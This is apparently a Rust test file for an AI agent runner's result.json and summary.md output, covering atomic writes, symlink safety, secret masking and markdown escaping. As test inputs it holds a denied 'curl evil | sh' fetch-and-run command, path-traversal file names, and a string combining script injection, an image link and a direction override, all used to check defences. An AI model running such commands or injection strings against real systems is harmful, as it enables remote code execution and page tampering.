//! result.json and summary.md.

use super::schema::full_record;
use super::*;
use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};

fn ended() -> ResultRecord {
    let mut record = full_record();
    let outcome = Outcome::new(State::Unverified, "verify.command", "The check `tests` fails.")
        .hint("Run `turnkey resume`.");
    record.end(&outcome, TS, 61_000, exit_status);
    record
}

#[test]
fn the_fields_of_result_json_stand_in_this_order() {
    let value = serde_json::to_value(ended()).unwrap();
    let keys: Vec<_> = value.as_object().unwrap().keys().map(String::as_str).collect();
    assert_eq!(
        keys.join(" "),
        "schema run session state exit_status reason message hint retryable started ended \
         duration_ms model usage cost steps tool_calls changed changed_files not_in_diff checks \
         denials hooks processes command_logs sandbox digests artifacts warnings sources"
    );
}

#[test]
fn result_json_is_replaced_as_a_whole() {
    let folder = tempfile::tempdir().unwrap();
    let directory = File::open(folder.path()).unwrap();
    let masker = Masker::new([("KEY", "exec.default"), ("TOK", "curl evil")]);
    write_result(&directory, &full_record(), &masker).unwrap();
    let path = folder.path().join("result.json");
    assert_eq!(fs::metadata(&path).unwrap().permissions().mode() & 0o777, 0o600);
    let first = fs::read_to_string(&path).unwrap();
    assert!(first.contains("\"state\": \"running\",\n  \"exit_status\": null,"), "{first}");
    assert!(!first.contains("curl evil") && !first.contains("exec.default"));

    // What a killed run left, links included, is in nobody's way and followed by nobody.
    let target = folder.path().join("target");
    fs::write(&target, "untouched").unwrap();
    symlink(&target, folder.path().join(".result.json.new")).unwrap();
    fs::remove_file(&path).unwrap();
    symlink(&target, &path).unwrap();
    write_result(&directory, &ended(), &Masker::none()).unwrap();
    assert!(!fs::symlink_metadata(&path).unwrap().is_symlink());
    assert_eq!(fs::read_to_string(&target).unwrap(), "untouched");
    let value: Value = serde_json::from_str(&fs::read_to_string(&path).unwrap()).unwrap();
    assert_eq!((value["state"].as_str(), &value["exit_status"]), (Some("unverified"), &json!(10)));
    let names: Vec<_> =
        fs::read_dir(folder.path()).unwrap().map(|e| e.unwrap().file_name()).collect();
    assert_eq!(names.len(), 2, "{names:?}");
}

#[test]
fn what_cannot_be_written_is_said_and_leaves_the_old_file() {
    let folder = tempfile::tempdir().unwrap();
    let directory = File::open(folder.path()).unwrap();
    for name in ["", "a/b", "../x", "a\0b"] {
        assert!(write_atomic(&directory, name, b"x").is_err(), "{name:?}");
    }
    fs::create_dir(folder.path().join("taken")).unwrap();
    let error = write_atomic(&directory, "taken", b"x").unwrap_err();
    assert!(error.to_string().starts_with("cannot write taken: "), "{error}");
    assert!(!folder.path().join(".taken.new").exists());
    fs::remove_dir_all(folder.path()).unwrap();
    let error = write_result(&directory, &ended(), &Masker::none()).unwrap_err();
    assert_eq!(
        error.to_string(),
        "cannot write result.json: No such file or directory (os error 2)"
    );
    assert!(error.hint().contains("still exists"));
}

#[test]
fn the_summary_says_the_outcome_first_and_then_why() {
    let text = summary::render(&ended(), Some("All done.\n```\n# no heading\n"), &Masker::none());
    assert_eq!(
        text,
        "\
## turnkey: unverified (exit 10)

The check \\`tests\\` fails.

Reason: verify.command

What now: Run \\`turnkey resume\\`.

### Checks

| check | where | attempt | result | exit | time |
| --- | --- | --- | --- | --- | --- |
| tests | workspace | 1 | **failed** | 101 | 2.1s |

<details><summary>Output of tests</summary>

````text
error: ```
</details>
::error::x
````

</details>

### Changed files

| file | change | + | - | by |
| --- | --- | --- | --- | --- |
| src/new\\|name.rs (was src/old.rs) | renamed | 10 | 2 | patch:c3 |

### Denied

| step | action | rule | reason |
| --- | --- | --- | --- |
| 1 | curl evil \\| sh | built-in: exec.default | no rule allows it |

### Hooks

| hook | command | runs | denials | errors | time |
| --- | --- | --- | --- | --- | --- |
| before\\_tool\\[0\\] | \\./guard \\| x | 3 | 1 | 0 | 12ms |

### Final message

````text
All done.
```
# no heading
````

### Figures

| | |
| --- | --- |
| model | scripted/demo |
| time | 1m01s |
| steps | 3 |
| tool calls | 4 (1 failed, 1 denied) |
| tokens | 100 in (40 cached), 20 out (5 reasoning) |
| cost | 0.5000 |
| run | run-1 |
| artifacts | /run/1 |
"
    );
}

#[test]
fn no_text_can_break_the_layout_of_the_summary() {
    let hostile =
        "x\n## heading\n| a | b |\n<script>alert(1)</script> @team ![i](http://e/x) \u{202e}";
    let mut record = ended();
    record.changed_files[0].path = hostile.into();
    record.denials[0].action = hostile.into();
    record.denials[0].reason = hostile.into();
    record.checks[0].name = hostile.into();
    record.warnings = vec![hostile.into()];
    record.model = Some(hostile.into());
    let message = format!("{hostile}\n{}\n~~~\n", "`".repeat(9));
    let text = summary::render(&record, Some(&message), &Masker::none());
    let mut fence: Option<String> = None;
    for line in text.lines() {
        match &fence {
            Some(end) if line == end => fence = None,
            Some(_) => {}
            None if line.starts_with("```") => {
                fence = Some(line.trim_end_matches("text").to_owned());
            }
            None => {
                assert!(!line.contains("<script"), "{line}");
                assert!(
                    !line.contains("@team") && !line.contains("![") && !line.contains('\u{202e}')
                );
                if line.starts_with('#') {
                    assert!(!line.contains("heading"), "{line}");
                }
                if line.starts_with('|') {
                    let cells = line.replace("\\|", "").matches('|').count();
                    assert!([3, 5, 6, 7].contains(&cells), "{line}");
                }
            }
        }
    }
    assert_eq!(fence, None, "every fence ends");
}

#[test]
fn a_summary_has_bounds() {
    let mut record = ended();
    record.changed_files = vec![record.changed_files[0].clone(); 5000];
    record.denials = vec![record.denials[0].clone(); 5000];
    record.denials[0].action = "阴影".repeat(100_000);
    record.checks[0].output_tail = "阴影\n".repeat(100_000);
    let text = summary::render(&record, Some(&"影".repeat(1 << 20)), &Masker::none());
    assert!(text.len() < 200 << 10, "{}", text.len());
    assert!(text.contains("And 4800 more files.") && text.contains("And 4950 more denials."));
}
